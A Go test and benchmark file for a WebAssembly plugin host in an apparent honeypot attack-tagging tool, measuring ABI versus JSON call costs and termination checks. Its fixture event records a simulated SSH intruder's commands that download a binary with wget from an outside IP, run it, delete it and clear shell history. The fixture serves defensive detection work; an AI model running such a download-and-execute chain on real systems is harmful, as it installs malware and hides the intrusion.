package wasm

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"testing"

	"github.com/tetratelabs/wazero"
	"github.com/tetratelabs/wazero/api"
	"github.com/tetratelabs/wazero/imports/wasi_snapshot_preview1"

	"github.com/decnet/ttp/abi"
)

// The reference figures of the ABI (issue note and RATIONALE.md): one ~400-byte session event
// through the same eight predicates, read from the record by index (abi), decoded from JSON
// with encoding/json inside the guest (json), the same record read by the sdk with no
// predicates (fields) and with only trivial ones (floor), and the empty call (bare); then the
// guest alone, called straight through wazero with and without termination checks, and an
// empty function the same two ways. TestGuestChecks (make guestchecks) counts the checks
// behind the difference.

var refOnce sync.Once
var refDir string
var refErr error

// buildReference builds the three reference guests once per test binary.
func buildReference(tb testing.TB) string {
	tb.Helper()
	if testing.Short() || raceEnabled {
		tb.Skip("builds Go wasm guests; not under -short or -race")
	}
	refOnce.Do(func() {
		refDir, refErr = os.MkdirTemp("", "ttp-reference-")
		if refErr != nil {
			return
		}
		for _, name := range []string{"lifter", "jsontwin", "bare", "fields", "floor"} {
			cmd := exec.Command("go", "build", "-buildmode=c-shared", "-o", filepath.Join(refDir, name+".wasm"), "./testdata/reference/"+name)
			cmd.Env = append(os.Environ(), "GOOS=wasip1", "GOARCH=wasm")
			if out, err := cmd.CombinedOutput(); err != nil {
				refErr = &buildError{name, string(out), err}
				return
			}
		}
	})
	if refErr != nil {
		tb.Fatal(refErr)
	}
	return refDir
}

type buildError struct {
	name, out string
	err       error
}

func (e *buildError) Error() string { return e.name + ": " + e.err.Error() + "\n" + e.out }

var refEvent = abi.Event{SourceKind: "session", SourceID: "cowrie-7f3a", SessionID: "7f3a", Payload: map[string]any{
	"commands":         []any{"uname -a", "cat /proc/cpuinfo", "cd /tmp", "wget http://45.9.1.2/x86", "chmod +x x86", "./x86", "rm -f x86", "history -c", "exit"},
	"command_times_ms": []any{0.0, 120.0, 240.0, 390.0, 510.0, 640.0, 790.0, 900.0, 1010.0},
	"duration_ms":      1400.0, "login_failures": 6.0, "login_success": true,
	"downloads":      []any{map[string]any{"url": "http://45.9.1.2/x86", "sha256": "9f86d081884c7d659a2feaa0c55ad015"}},
	"client_version": "SSH-2.0-Go", "usernames": []any{"root"},
}}

func refInstance(tb testing.TB, name string, fields bool) (Instance, abi.ReplyLimits) {
	tb.Helper()
	ctx := context.Background()
	wasm, err := os.ReadFile(filepath.Join(buildReference(tb), name+".wasm"))
	if err != nil {
		tb.Fatal(err)
	}
	m, err := testCompiler.LoadWasm(ctx, name, wasm, Limits{})
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { m.Close(ctx) })
	inst, err := m.NewInstance(ctx)
	if err != nil {
		tb.Fatal(err)
	}
	req := &abi.ConfigureRequest{Rules: []abi.RuleConfig{{ID: "R9031", Kind: "lifter:reference_x", AppliesTo: []string{"session"}, Emits: []abi.EmitConfig{{TechniqueID: "T1059", Tactic: "execution", Confidence: 0.6}}}}}
	if _, err := inst.Configure(ctx, req); err != nil {
		tb.Fatal(err)
	}
	return inst, abi.ReplyLimits{Emits: []int{1}, EvidenceKeys: len(m.Manifest().EvidenceKeys)}
}

// TestReferenceTwins: the record-reading lifter and its JSON twin give the same drafts.
func TestReferenceTwins(t *testing.T) {
	ctx := context.Background()
	ev := abi.Expand(refEvent)[0]
	inst, lim := refInstance(t, "lifter", true)
	viaABI, err := inst.Tag(ctx, 0, &ev, lim, nil)
	if err != nil {
		t.Fatal(err)
	}
	twin, _ := refInstance(t, "jsontwin", false)
	data, _ := json.Marshal(ev)
	reply, err := twin.(RawTagger).TagRecord(ctx, data)
	if err != nil {
		t.Fatal(err)
	}
	viaJSON, err := abi.DecodeReply(reply, lim, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(viaABI) != 1 || len(viaJSON) != 1 || viaABI[0].Evidence[0].Value != viaJSON[0].Evidence[0].Value {
		t.Fatalf("abi %+v, json %+v", viaABI, viaJSON)
	}
	t.Logf("event of %d bytes as JSON, score %v", len(data), viaABI[0].Evidence[0].Value)
}

func BenchmarkReference(b *testing.B) {
	ctx := context.Background()
	ev := abi.Expand(refEvent)[0]
	b.Run("abi", func(b *testing.B) {
		inst, lim := refInstance(b, "lifter", true)
		var out []abi.ReplyDraft
		stalls := 0
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			var err error
			if out, err = inst.Tag(ctx, 0, &ev, lim, out[:0]); err != nil {
				inst, out, err = retryStall(b, "lifter", &ev, err, &stalls)
			}
			if err != nil || len(out) != 1 {
				b.Fatal(err, out)
			}
		}
		b.ReportMetric(float64(stalls), "stalls")
	})
	// The same lifter written in C against ABI v1 (testdata/reference/c with sdk/c/ttp.h, a
	// committed fixture), through the host as abi: what the call costs when the guest's loops
	// are the source's loops (RATIONALE.md, "A guest that is not Go").
	b.Run("abi-c", func(b *testing.B) {
		inst, lim := cRefInstance(b)
		var out []abi.ReplyDraft
		stalls := 0
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			var err error
			if out, err = inst.Tag(ctx, 0, &ev, lim, out[:0]); errors.Is(err, ErrTimeout) { // as retryStall
				b.StopTimer()
				inst, _ = cRefInstance(b)
				if out, err = inst.(Retrier).RetryTag(ctx, 0, &ev, lim, out[:0]); err == nil {
					stalls++
				}
				b.StartTimer()
			}
			if err != nil || len(out) != 1 {
				b.Fatal(err, out)
			}
		}
		b.ReportMetric(float64(stalls), "stalls")
	})
	b.Run("json", func(b *testing.B) {
		inst, lim := refInstance(b, "jsontwin", false)
		data, _ := json.Marshal(ev)
		raw := inst.(RawTagger)
		var out []abi.ReplyDraft
		b.ReportAllocs()
		b.ResetTimer()
		stalls := 0
		for i := 0; i < b.N; i++ {
			reply, err := raw.TagRecord(ctx, data)
			if errors.Is(err, ErrTimeout) { // as retryStall does, for a raw record
				b.StopTimer()
				fresh, _ := refInstance(b, "jsontwin", false)
				raw = fresh.(RawTagger)
				if reply, err = raw.RetryTagRecord(ctx, data); err == nil {
					stalls++
				}
				b.StartTimer()
			}
			if err != nil {
				b.Fatal(err)
			}
			if out, err = abi.DecodeReply(reply, lim, out[:0]); err != nil || len(out) != 1 {
				b.Fatal(err, out)
			}
		}
		b.ReportMetric(float64(stalls), "stalls")
	})
	// The guest alone, called straight through wazero (no deadline timer, no record encoding,
	// no reply decoding), in a runtime with and without WithCloseOnContextDone: the difference
	// is what the termination checks cost a Go guest, which exits to the host's Go at every
	// function entry and loop iteration (RATIONALE.md, "What a deadline costs a Go guest").
	for _, g := range []struct {
		name    string
		checked bool
		c       bool // the C lifter (testdata/reference/c) instead of the Go one
	}{{"guest-checked", true, false}, {"guest-unchecked", false, false}, {"guest-c-checked", true, true}, {"guest-c-unchecked", false, true}} {
		b.Run(g.name, func(b *testing.B) {
			var tag api.Function
			var stack []uint64
			if g.c {
				tag, stack = rawGuest(b, g.checked, readCRef(b), &ev)
			} else {
				tag, stack = rawReference(b, g.checked, &ev)
			}
			arg := [2]uint64{stack[0], stack[1]}
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				stack[0], stack[1] = arg[0], arg[1]
				if err := tag.CallWithStack(ctx, stack); err != nil {
					b.Fatal(err)
				}
			}
			b.StopTimer()
			if uint32(stack[0]) != 30 { // one draft with one number: the reply TestReferenceTwins checks
				b.Fatalf("reply of %d bytes", uint32(stack[0]))
			}
		})
	}
	// An empty function called straight through wazero, with and without
	// WithCloseOnContextDone: what the option costs a call before any guest code runs (wazero
	// starts a goroutine per call to watch the context, whatever the context).
	for _, checked := range []bool{true, false} {
		name := "wazero-call-checked"
		if !checked {
			name = "wazero-call-unchecked"
		}
		b.Run(name, func(b *testing.B) {
			r := wazero.NewRuntimeWithConfig(ctx, wazero.NewRuntimeConfig().WithCloseOnContextDone(checked))
			defer r.Close(ctx)
			mod, err := r.Instantiate(ctx, emptyModule)
			if err != nil {
				b.Fatal(err)
			}
			f, stack := mod.ExportedFunction("f"), make([]uint64, 1)
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if err := f.CallWithStack(ctx, stack); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
	// Through the host like abi: bare reads nothing; fields declares the lifter's fields, so
	// its record is the same, and tests nothing (the sdk's share of abi); floor reads them as
	// the lifter does but tests only lengths and comparisons (the least a lifter of this
	// shape costs), and answers with the same draft.
	for _, guest := range []struct {
		name   string
		drafts int
	}{{"bare", 0}, {"fields", 0}, {"floor", 1}} {
		b.Run(guest.name, func(b *testing.B) {
			inst, lim := refInstance(b, guest.name, false)
			var out []abi.ReplyDraft
			stalls := 0
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				var err error
				if out, err = inst.Tag(ctx, 0, &ev, lim, out[:0]); err != nil {
					inst, out, err = retryStall(b, guest.name, &ev, err, &stalls)
				}
				if err != nil || len(out) != guest.drafts {
					b.Fatal(err, out)
				}
			}
			b.ReportMetric(float64(stalls), "stalls")
		})
	}
}

// retryStall is what the pool does with a call a busy host timed out (measured: this
// benchmark failed 2 runs of 3 at load 6-12 with "plugin call exceeded its deadline (50ms)"
// on a 20-40 us call): the call again on a fresh instance under the retry's budget of its own
// CPU time, off the timer, counted as a stall. A guest that loops still fails.
func retryStall(b *testing.B, guest string, ev *abi.Event, first error, stalls *int) (Instance, []abi.ReplyDraft, error) {
	if !errors.Is(first, ErrTimeout) {
		return nil, nil, first
	}
	b.StopTimer()
	defer b.StartTimer()
	inst, lim := refInstance(b, guest, false)
	out, err := inst.(Retrier).RetryTag(context.Background(), 0, ev, lim, nil)
	if err != nil {
		return nil, nil, fmt.Errorf("retry of a call that timed out (%v): %w", first, err)
	}
	*stalls++
	return inst, out, nil
}

// emptyModule is (module (func (export "f"))), assembled by hand: 31 bytes are not worth a
// committed fixture.
var emptyModule = []byte{
	0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00, // magic, version 1
	0x01, 0x04, 0x01, 0x60, 0x00, 0x00, // type section: () -> ()
	0x03, 0x02, 0x01, 0x00, // function section: one function of type 0
	0x07, 0x05, 0x01, 0x01, 'f', 0x00, 0x00, // export section: "f" = function 0
	0x0a, 0x04, 0x01, 0x02, 0x00, 0x0b, // code section: no locals, end
}

// rawReference instantiates the reference lifter in a runtime of its own, with or without
// termination checks, and prepares it as prepareReference does.
func rawReference(tb testing.TB, checked bool, ev *abi.Event) (api.Function, []uint64) {
	tb.Helper()
	wasm, err := os.ReadFile(filepath.Join(buildReference(tb), "lifter.wasm"))
	if err != nil {
		tb.Fatal(err)
	}
	return rawGuest(tb, checked, wasm, ev)
}

// rawGuest instantiates a reference guest from wasm in a runtime of its own, with or without
// termination checks, and prepares it as prepareReference does.
func rawGuest(tb testing.TB, checked bool, wasm []byte, ev *abi.Event) (api.Function, []uint64) {
	tb.Helper()
	ctx := context.Background()
	r := wazero.NewRuntimeWithConfig(ctx, wazero.NewRuntimeConfig().WithCloseOnContextDone(checked))
	tb.Cleanup(func() { r.Close(ctx) })
	wasi_snapshot_preview1.MustInstantiate(ctx, r)
	mod, err := r.InstantiateWithConfig(ctx, wasm, wazero.NewModuleConfig().WithName("").WithStartFunctions("_initialize"))
	if err != nil {
		tb.Fatal(err)
	}
	return prepareReference(tb, mod, ev)
}

// prepareReference configures an instantiated reference guest with the benchmark's rule and
// writes ev's record into its input buffer: it returns ttp_tag and the stack to call it with.
func prepareReference(tb testing.TB, mod api.Module, ev *abi.Event) (api.Function, []uint64) {
	tb.Helper()
	ctx := context.Background()
	mem := mod.Memory()
	call := func(name string, args ...uint64) uint64 {
		res, err := mod.ExportedFunction(name).Call(ctx, args...)
		if err != nil {
			tb.Fatalf("%s: %v", name, err)
		}
		if len(res) == 0 {
			return 0
		}
		return res[0]
	}
	write := func(b []byte) uint64 {
		ptr := call("ttp_alloc", uint64(len(b)))
		if !mem.Write(uint32(ptr), b) {
			tb.Fatal("ttp_alloc returned a buffer outside memory")
		}
		return ptr
	}
	res := call("ttp_describe")
	raw, _ := mem.Read(uint32(res>>32), uint32(res))
	man, err := abi.DecodeManifest(raw)
	if err != nil {
		tb.Fatal(err)
	}
	pl, err := man.Plans()
	if err != nil {
		tb.Fatal(err)
	}
	req, _ := json.Marshal(abi.ConfigureRequest{Rules: []abi.RuleConfig{{ID: "R9031", Kind: "lifter:reference_x", AppliesTo: []string{"session"},
		Emits: []abi.EmitConfig{{TechniqueID: "T1059", Tactic: "execution", Confidence: 0.6}}}}})
	res = call("ttp_configure", write(req), uint64(len(req)))
	if raw, _ := mem.Read(uint32(res>>32), uint32(res)); string(raw) != "{}" {
		tb.Fatalf("configure: %s", raw)
	}
	rec := abi.AppendRecord(nil, 0, pl[0], ev)
	return mod.ExportedFunction("ttp_tag"), []uint64{write(rec), uint64(len(rec))}
}

// TestGuestChecks counts the loop headers, and so the termination checks, one call of each
// reference guest runs on the benchmark's event. It needs guests instrumented by binaryen's
// wasm-opt --log-execution, which wasm/testdata/reference/checks.sh (make guestchecks)
// builds; without them it skips. wasm-opt logs every function entry and every loop header
// through an imported env.log_execution(id); the disassembly tells which ids are loops.
func TestGuestChecks(t *testing.T) {
	dir := os.Getenv("TTP_GUEST_CHECKS")
	if dir == "" {
		t.Skip("needs instrumented guests: make guestchecks")
	}
	ev := abi.Expand(refEvent)[0]
	total := map[string]int{}
	for _, g := range []string{"bare", "fields", "floor", "lifter", "c"} {
		if g == "c" && !fileExists(filepath.Join(dir, "c.log.wat")) {
			continue // instrumented by a checks.sh of before the C lifter
		}
		wat, err := os.ReadFile(filepath.Join(dir, g+".log.wat"))
		if err != nil {
			t.Fatal(err)
		}
		loops := loopHeaders(string(wat))
		if len(loops) == 0 {
			t.Fatalf("%s: no loop header logged in the disassembly", g)
		}
		wasm, err := os.ReadFile(filepath.Join(dir, g+".log.wasm"))
		if err != nil {
			t.Fatal(err)
		}
		counts, reply := countedCall(t, wasm, &ev)
		byFunc := map[string]int{}
		for id, n := range counts {
			if fn, ok := loops[id]; ok {
				byFunc[fn] += n
				total[g] += n
			}
		}
		fns := make([]string, 0, len(byFunc))
		for fn := range byFunc {
			fns = append(fns, fn)
		}
		sort.Slice(fns, func(i, j int) bool {
			return byFunc[fns[i]] > byFunc[fns[j]] || byFunc[fns[i]] == byFunc[fns[j]] && fns[i] < fns[j]
		})
		t.Logf("%s: %d loop headers (termination checks) in one call, reply of %d bytes", g, total[g], reply)
		for _, fn := range fns {
			t.Logf("  %5d  %s", byFunc[fn], fn)
		}
	}
	if _, ok := total["c"]; ok && !(total["c"] > 0 && total["c"] < total["floor"]) {
		t.Errorf("checks per call: C lifter %d, Go floor %d; want 0 < c < floor", total["c"], total["floor"])
	}
	if !(total["bare"] > 0 && total["bare"] < total["fields"] && total["fields"] < total["floor"] && total["floor"] < total["lifter"]) {
		t.Errorf("checks per call: bare %d, fields %d, floor %d, lifter %d; want 0 < bare < fields < floor < lifter",
			total["bare"], total["fields"], total["floor"], total["lifter"])
	}
}

// loopHeaders maps each log id that wasm-opt --log-execution put at the top of a loop to
// the function holding it, read from wasm-dis output: the call's id is on the line after
// `(call $log_execution`, and a loop's call is on the line after `(loop`.
func loopHeaders(wat string) map[uint32]string {
	out := map[uint32]string{}
	lines := strings.Split(wat, "\n")
	fn, logCall := "", "(call $log_execution"
	for _, l := range lines { // a stripped module (the C lifter) names the import by number
		if _, rest, ok := strings.Cut(l, `(import "env" "log_execution" (func $`); ok {
			name, _, _ := strings.Cut(rest, " ")
			logCall = "(call $" + strings.TrimSuffix(name, ")")
			break
		}
	}
	for i, l := range lines {
		if rest, ok := strings.CutPrefix(l, " (func $"); ok {
			fn, _, _ = strings.Cut(rest, " ")
		}
		if strings.Contains(l, logCall) && i > 0 && i+1 < len(lines) && strings.Contains(lines[i-1], "(loop") {
			var id uint32
			if _, err := fmt.Sscanf(strings.TrimSpace(lines[i+1]), "(i32.const %d)", &id); err == nil {
				out[id] = fn
			}
		}
	}
	return out
}

// countedCall instantiates an instrumented guest, configures it with the benchmark's rule,
// warms it with five calls and returns how often each log id ran in the sixth, with the
// reply's length.
func countedCall(t *testing.T, wasm []byte, ev *abi.Event) (map[uint32]int, uint32) {
	ctx := context.Background()
	counts := map[uint32]int{}
	counting := false
	r := wazero.NewRuntime(ctx)
	t.Cleanup(func() { r.Close(ctx) })
	wasi_snapshot_preview1.MustInstantiate(ctx, r)
	if _, err := r.NewHostModuleBuilder("env").NewFunctionBuilder().WithFunc(func(id uint32) {
		if counting {
			counts[id]++
		}
	}).Export("log_execution").Instantiate(ctx); err != nil {
		t.Fatal(err)
	}
	mod, err := r.InstantiateWithConfig(ctx, wasm, wazero.NewModuleConfig().WithName("").WithStartFunctions("_initialize"))
	if err != nil {
		t.Fatal(err)
	}
	tag, stack := prepareReference(t, mod, ev)
	arg := [2]uint64{stack[0], stack[1]}
	for i := 0; i < 6; i++ {
		counting = i == 5
		stack[0], stack[1] = arg[0], arg[1]
		if err := tag.CallWithStack(ctx, stack); err != nil {
			t.Fatal(err)
		}
	}
	return counts, uint32(stack[0])
}
